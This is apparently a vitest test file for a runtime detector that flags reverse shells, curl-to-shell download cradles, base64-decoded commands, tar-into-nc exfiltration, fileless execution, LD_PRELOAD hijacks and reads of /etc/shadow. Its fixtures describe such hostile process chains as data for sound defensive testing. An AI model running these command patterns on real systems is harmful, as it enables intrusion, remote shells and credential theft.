import { describe, expect, test } from 'vitest';
import { runtimeWatcher } from '../../../../src/actors/modules/runtime_watcher/detect.ts';
import { runDetector } from '../../../kit/run-detector.ts';
import { type Exec, execOf, judge, said } from './exec.ts';

const ONE = ['socket:[7]', 'socket:[7]', 'socket:[7]'];
const PAIR = ['socket:[7]', 'socket:[8]', 'socket:[9]'];

describe('a shell on a socket', () => {
  test.each<[string, Exec, readonly string[]]>([
    ['bare, started by a script', { argv: ['/bin/sh'], parents: ['python3', 'bash', 'sshd'], stdio: ONE }, ['reverse_shell CRITICAL']],
    ['interactive, whoever started it', { argv: ['bash', '-i'], parents: ['node'], stdio: PAIR }, ['reverse_shell CRITICAL', 'suspicious_process HIGH']],
    ['bare, left behind under init', { argv: ['bash'], parents: ['systemd'], stdio: ONE }, ['reverse_shell CRITICAL']],
    ['a bare language', { argv: ['python3'], parents: ['perl'], stdio: ONE }, ['reverse_shell CRITICAL']],
    ['a script with one socket on both sides', { argv: ['sh', '/opt/x.sh'], parents: ['perl'], stdio: ONE }, ['reverse_shell HIGH']],
    ['bare under a runtime that makes pipes from sockets', { argv: ['bash'], parents: ['node'], stdio: PAIR }, ['reverse_shell MEDIUM']],
    [
      'started by a raw connection tool, with pipes',
      { argv: ['sh'], parents: ['ncat'], stdio: ['pipe:[1]', 'pipe:[2]', 'pipe:[2]'] },
      ['reverse_shell CRITICAL'],
    ],
    ['that calls itself something else', { argv: ['/usr/sbin/sshd', '-i'], exe: '/usr/bin/bash', parents: ['perl'], stdio: ONE }, ['reverse_shell CRITICAL']],
  ])('%s', (_name, exec, wanted) => {
    expect(said(judge(exec))).toEqual(wanted);
  });

  test.each<[string, Exec]>([
    ['a session of sshd', { argv: ['bash', '-c', 'uptime'], parents: ['sshd'], stdio: ONE }],
    ['a login shell of sshd', { argv: ['-bash'], exe: '/usr/bin/bash', parents: ['sshd'], stdio: ONE }],
    ['git-shell is no shell', { argv: ['git-shell', '-c', 'git-upload-pack'], parents: ['perl'], stdio: ONE }],
    ['rsync', { argv: ['rsync', '--server', '.', '/srv'], parents: ['bash'], stdio: ONE }],
    ['an inetd service', { argv: ['/bin/sh', '/usr/lib/finger.sh'], parents: ['xinetd'], stdio: ONE }],
    ['a socket-activated script', { argv: ['/bin/bash', '/usr/lib/serve.sh'], parents: ['systemd'], stdio: ONE }],
    ['a service that writes to the journal', { argv: ['/bin/bash', '/opt/run.sh'], parents: ['systemd'], stdio: ['/dev/null', 'socket:[3]', 'socket:[3]'] }],
    ['docker exec', { argv: ['sh'], parents: ['containerd-shim-runc-v2'], stdio: PAIR }],
    ['a command of node', { argv: ['/bin/sh', '-c', 'git rev-parse HEAD'], parents: ['node'], stdio: PAIR }],
    ['a cron job', { argv: ['/bin/sh', '-c', 'run-parts /etc/cron.hourly'], parents: ['cron'], stdio: ['pipe:[1]', 'pipe:[2]', 'pipe:[2]'] }],
    ['a terminal', { argv: ['bash', '-i'], parents: ['tmux'], stdio: ['/dev/pts/0', '/dev/pts/0', '/dev/pts/0'] }],
  ])('%s is let by', (_name, exec) => {
    expect(said(judge(exec))).toEqual([]);
  });

  test('children of a session without terminal inherit its socket and its innocence', () => {
    const session: Exec = { argv: ['bash', '-c', 'make'], parents: ['sshd'], stdio: ONE, pid: 1 };
    const child: Exec = { argv: ['bash'], parents: ['bash', 'sshd'], stdio: ONE, pid: 2, at: 10 };
    expect(said(judge(session, child))).toEqual([]);
    expect(said(judge(child)), 'without having seen the session').toEqual(['reverse_shell CRITICAL']);
    expect(said(judge({ ...child, details: { without_terminal: true } })), 'known by the title of sshd').toEqual([]);
  });

  test('what a stolen shell starts is told about the shell that began it', () => {
    const raised = judge(
      { argv: ['/bin/sh'], parents: ['python3'], stdio: ONE, pid: 50 },
      { argv: ['bash'], parents: ['sh', 'python3'], stdio: ONE, pid: 51, at: 5000 },
    );
    expect(raised.map((one) => one.draft.subject)).toEqual(['process:50:500', 'process:50:500']);
    expect(raised[1]?.draft.entities?.process?.pid).toBe(50);
    expect(raised[1]?.draft.earlierEventIds).toEqual(['exec-50-0']);
  });

  test('a connection of another host behind the socket leaves no doubt, even under node', () => {
    const event = execOf({ argv: ['sh'], parents: ['node'], stdio: PAIR });
    const connection = { protocol: 'tcp', localAddress: '192.0.2.1', localPort: 5, remoteAddress: '198.51.100.7', remotePort: 4444 } as const;
    const raised = runDetector(runtimeWatcher, {}, [{ ...event, entities: { ...event.entities, connection } }]);
    expect(said(raised)).toEqual(['reverse_shell CRITICAL']);
    expect(raised[0]?.draft.entities?.connection).toEqual(connection);
  });
});

describe('processes that share a pipe', () => {
  const fetch = (url: string, at = 0): Exec => ({ argv: ['curl', '-s', url], stdio: ['/dev/null', 'pipe:[88]', '/dev/null'], pid: 10, at });
  const shell: Exec = { argv: ['sh'], stdio: ['pipe:[88]', '/dev/pts/0', '/dev/pts/0'], pid: 11, at: 3 };

  test('curl | sh, in whichever order they start; the shell is the one to stop', () => {
    const forwards = judge(fetch('https://example.org/x'), shell);
    const backwards = judge({ ...shell, at: 0 }, fetch('https://example.org/x', 3));
    expect(said(forwards)).toEqual(['download_cradle HIGH']);
    expect(said(backwards)).toEqual(['download_cradle HIGH']);
    for (const [raised] of [forwards, backwards]) expect(raised?.draft.entities?.process?.pid).toBe(11);
  });

  test.each([
    ['http://192.0.2.9/x', 'download_cradle CRITICAL'],
    ['https://get.docker.com', 'download_cradle LOW'],
  ])('the address decides: %s', (url, wanted) => {
    expect(said(judge(fetch(url), shell)).filter((one) => one.startsWith('download_cradle'))).toContain(wanted);
  });

  test.each<[string, Exec, Exec, readonly string[]]>([
    [
      'nc into a shell',
      { argv: ['nc', 'h', '1'], stdio: ['/dev/null', 'pipe:[1]', ''], pid: 1 },
      { argv: ['bash'], stdio: ['pipe:[1]', '/dev/null', ''], pid: 2 },
      ['reverse_shell CRITICAL'],
    ],
    [
      'a shell into nc',
      { argv: ['sh', '-i'], stdio: ['/tmp/f', 'pipe:[1]', ''], pid: 1 },
      { argv: ['nc', 'h', '1'], stdio: ['pipe:[1]', '/tmp/f', ''], pid: 2 },
      ['reverse_shell CRITICAL'],
    ],
    [
      'base64 -d into a shell',
      { argv: ['base64', '-d'], stdio: ['', 'pipe:[1]', ''], pid: 1 },
      { argv: ['sh'], stdio: ['pipe:[1]', '', ''], pid: 2 },
      ['obfuscated_command HIGH'],
    ],
    [
      'tar into nc',
      { argv: ['tar', 'c', '/srv'], stdio: ['', 'pipe:[1]', ''], pid: 1 },
      { argv: ['nc', 'h', '1'], stdio: ['pipe:[1]', '', ''], pid: 2 },
      ['data_exfiltration HIGH'],
    ],
    ['curl into jq', { argv: ['curl', 'x'], stdio: ['', 'pipe:[1]', ''], pid: 1 }, { argv: ['jq', '.'], stdio: ['pipe:[1]', '', ''], pid: 2 }, []],
    ['different pipes', { argv: ['curl', 'x'], stdio: ['', 'pipe:[1]', ''], pid: 1 }, { argv: ['sh'], stdio: ['pipe:[2]', '', ''], pid: 2 }, []],
    [
      'curl into a script that reads its input',
      { argv: ['curl', 'x'], stdio: ['', 'pipe:[1]', ''], pid: 1 },
      { argv: ['sh', '/opt/x.sh'], stdio: ['pipe:[1]', '', ''], pid: 2 },
      [],
    ],
  ])('%s', (_name, first, second, wanted) => {
    expect(said(judge(first, second))).toEqual(wanted);
  });
});

describe('steps one after another', () => {
  test('a fetched file that is run is joined to its fetching', () => {
    const raised = judge(
      { argv: ['wget', 'http://192.0.2.9/u'], details: { cwd: '/root' }, pid: 1 },
      { argv: ['./u'], exe: '/root/u', details: { cwd: '/root' }, pid: 2, at: 60_000 },
    );
    expect(said(raised)).toEqual(['download_cradle HIGH']);
    expect(raised[0]?.draft.earlierEventIds).toEqual(['exec-1-0']);
  });

  test('another file of the same name elsewhere is not, nor the same file much later', () => {
    const fetch: Exec = { argv: ['wget', 'http://192.0.2.9/u'], details: { cwd: '/root' }, pid: 1 };
    expect(said(judge(fetch, { argv: ['./u'], exe: '/srv/u', details: { cwd: '/srv' }, pid: 2, at: 1000 }))).toEqual([]);
    expect(said(judge(fetch, { argv: ['./u'], exe: '/root/u', details: { cwd: '/root' }, pid: 2, at: 3_600_000 }))).toEqual([]);
  });

  test('six different looks of one shell within a minute are one finding', () => {
    const looks = ['whoami', 'id', 'hostname', 'w', 'last', 'netstat', 'arp', 'lscpu'];
    const execs = looks.map((name, n): Exec => ({ argv: [name], parents: ['bash'], details: { parent_pid: 5 }, pid: n + 1, at: n * 1000 }));
    const raised = judge(...execs);
    expect(said(raised)).toEqual(['host_discovery MEDIUM']);
    expect(raised[0]?.draft.earlierEventIds).toHaveLength(5);
    expect(said(judge(...execs.map((exec, n) => ({ ...exec, at: n * 30_000 })))), 'spread over minutes').toEqual([]);
    expect(said(judge(...execs.map((exec) => ({ ...exec, parents: ['python3'] })))), 'by an inventory program').toEqual([]);
  });
});

describe('what a server starts', () => {
  test.each<[string, string, readonly string[], readonly string[]]>([
    ['php-fpm8.2', 'a question', ['sh', '-c', 'id'], ['suspicious_process HIGH']],
    ['nginx', 'a bare shell', ['/bin/sh'], ['suspicious_process HIGH']],
    ['/usr/sbin/apache2', 'code', ['perl', '-e', 'print 1'], ['suspicious_process HIGH']],
    ['apache2', 'a script from a scratch folder', ['python3', '/tmp/x.py'], ['suspicious_process HIGH']],
    ['postgres', 'a download', ['sh', '-c', 'wget example.org'], ['suspicious_process HIGH']],
    ['mysqld', 'something not known', ['sh', '-c', '/opt/tool'], ['suspicious_process MEDIUM']],
    ['java', 'a question', ['sh', '-c', 'whoami'], ['suspicious_process MEDIUM']],
    ['php-fpm', 'mail', ['sh', '-c', '/usr/sbin/sendmail -t -i'], []],
    ['php-fpm', 'a picture', ['sh', '-c', 'convert a.png b.jpg'], []],
    ['postgres', 'its archive command', ['sh', '-c', 'test ! -f /a && cp b /a'], []],
    ['apache2', 'a CGI script', ['/usr/bin/perl', '/usr/lib/cgi-bin/x.cgi'], []],
    ['node', 'a build', ['sh', '-c', 'vite build'], []],
    ['java', 'a build step', ['/bin/sh', '-xe', '/var/lib/jenkins/x.sh'], []],
    ['bash', 'anything', ['sh', '-c', 'id'], []],
  ])('%s starts %s', (server, _what, argv, wanted) => {
    expect(said(judge({ argv, parents: [server, 'systemd'] })).filter((one) => one.startsWith('suspicious'))).toEqual(wanted);
  });
});

describe('where a program is run from', () => {
  test.each<[string, Exec, readonly string[]]>([
    ['memory', { argv: ['x'], exe: '/memfd:x (deleted)', details: { memfd: true } }, ['exec_transient_path HIGH', 'fileless_execution HIGH']],
    ['a descriptor', { argv: ['x'], exe: '/proc/self/fd/3' }, ['exec_transient_path HIGH', 'fileless_execution HIGH']],
    ['a deleted file', { argv: ['/opt/x'], exe: '/opt/x', details: { deleted: true } }, ['exec_transient_path HIGH']],
    ['/dev/shm', { argv: ['/dev/shm/x'], exe: '/dev/shm/x' }, ['exec_transient_path HIGH']],
    ['a hidden file in /tmp', { argv: ['/tmp/.x'], exe: '/tmp/.x' }, ['exec_transient_path HIGH']],
    ['/tmp', { argv: ['/tmp/x'], exe: '/tmp/x' }, ['exec_transient_path MEDIUM']],
    ['/tmp, by a test runner', { argv: ['/tmp/x'], exe: '/tmp/x', parents: ['pytest'] }, []],
    ['/tmp, unpacked by an installer', { argv: ['/tmp/selfgz123/setup'], exe: '/tmp/selfgz123/setup' }, []],
    ['memory, by the container runtime', { argv: ['runc', 'init'], exe: '/memfd:runc_cloned:/proc/self/exe', details: { memfd: true }, parents: ['runc'] }, []],
    [
      'memory, with that name only',
      { argv: ['runc', 'init'], exe: '/memfd:runc_cloned:/proc/self/exe', details: { memfd: true }, parents: ['bash'] },
      ['exec_transient_path HIGH', 'fileless_execution HIGH'],
    ],
    ['/usr/bin', { argv: ['/usr/bin/x'], exe: '/usr/bin/x' }, []],
  ])('%s', (_name, exec, wanted) => {
    expect(said(judge(exec))).toEqual(wanted);
  });

  test.each([
    ['/dev/shm/x.so', ['library_path_hijack HIGH']],
    ['/usr/lib/a.so:/tmp/x.so', ['library_path_hijack HIGH']],
    ['/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', []],
    ['./lib.so', ['library_path_hijack MEDIUM']],
  ])('LD_PRELOAD of the environment is %s', (preload, wanted) => {
    expect(said(judge({ argv: ['/usr/sbin/app'], exe: '/usr/sbin/app', details: { preload } }))).toEqual(wanted);
  });
});

describe('the detector', () => {
  test('names the process to stop and folds by it', () => {
    const [raised] = judge({ argv: ['cat', '/etc/shadow'], pid: 77 });
    expect(raised?.draft.entities?.process).toEqual({ pid: 77, startTime: 770, exe: '/usr/bin/cat' });
    expect(raised?.draft.subject).toBe('process:77:770');
  });

  test('its evidence shows the command at fault, cut and never interpreted', () => {
    const [raised] = judge({ text: `cat /etc/shadow \u001b[31m${'x'.repeat(9000)}` });
    expect(raised?.draft.evidence).toMatchObject({ rule: 'runtime_watcher/read_shadow', field: 'command_line', span: [0, 3] });
    expect(raised?.draft.evidence.text?.length).toBeLessThanOrEqual(512);
    expect(raised?.draft.description).not.toContain('\u001b');
  });

  test('a process that was over, and programs trusted by their file, are not judged', () => {
    expect(judge({ details: { pid: 1, gone: true } })).toEqual([]);
    const shell = execOf({ argv: ['/opt/agent/bin/sh'], exe: '/opt/agent/bin/sh', parents: ['perl'], stdio: ONE });
    expect(runDetector(runtimeWatcher, { trusted_executables: ['/opt/agent/'] }, [shell])).toEqual([]);
    expect(runDetector(runtimeWatcher, { trusted_executables: ['/opt/other/'] }, [shell])).toHaveLength(1);
  });

  test('unknown settings are refused', () => {
    expect(() => runtimeWatcher.createDetector({ nonsense: 1 })).toThrow();
  });

  test('its memory stays bounded under a flood, and empties with time', () => {
    const detector = runtimeWatcher.createDetector({});
    for (let n = 0; n < 30_000; n += 1) {
      const argv = n % 3 === 0 ? ['sh'] : n % 3 === 1 ? ['wget', `http://192.0.2.9/${n}`] : ['whoami'];
      const stdio = n % 2 === 0 ? [`pipe:[${n}]`, `pipe:[${n + 1}]`, ''] : [`socket:[${n}]`, `socket:[${n}]`, ''];
      detector.onEvent(execOf({ argv, stdio, pid: n, at: n, parents: ['bash'], details: { parent_pid: n, cwd: '/x' } }), () => {});
    }
    expect(detector.size()).toBeLessThanOrEqual(2 * 1024 + 2 * 512 + 2 * 2048);
    expect(detector.size()).toBeGreaterThan(1000);
    detector.sweep?.(Date.UTC(2027, 0, 1));
    expect(detector.size()).toBeLessThanOrEqual(2048);
  });
});
